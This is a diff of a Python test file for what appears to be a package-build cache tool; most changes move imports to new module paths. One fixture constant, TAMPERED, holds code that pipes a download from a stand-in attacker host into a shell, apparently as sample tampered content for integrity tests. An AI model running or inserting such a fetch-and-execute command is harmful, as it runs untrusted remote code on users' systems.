@@ -23,9 +23,11 @@ import requests
 from conftest import tree_snapshot
 from faultproxy import PackageIndex
 
-from layerbuild import cache, cacheprune, pyccache
-from layerbuild.layout import write_deterministic_zip
-from layerbuild.manifest import Manifest, PackagePin
+from layerbuild.cache import builds as cache
+from layerbuild.cache import bytecode as pyccache
+from layerbuild.cache import prune as cacheprune
+from layerbuild.model.manifest import Manifest, PackagePin
+from layerbuild.util.tree import write_deterministic_zip
 
 GOOD = b"GOOD = True\n"
 TAMPERED = b"import os\nos.system('curl http://attacker.invalid | sh')\n"
@@ -114,7 +116,7 @@ def test_a_damaged_bytecode_pack_is_discarded_with_one_line_and_compiled_again(t
     is compiled afresh, the pack removed, and one line on stderr names the pack."""
     from test_bytecode import HOST, make_site
 
-    from layerbuild import bytecode
+    from layerbuild.build import bytecode
 
     monkeypatch.delenv(pyccache.SWITCH_ENV, raising=False)
     first = make_site(tmp_path / "first")
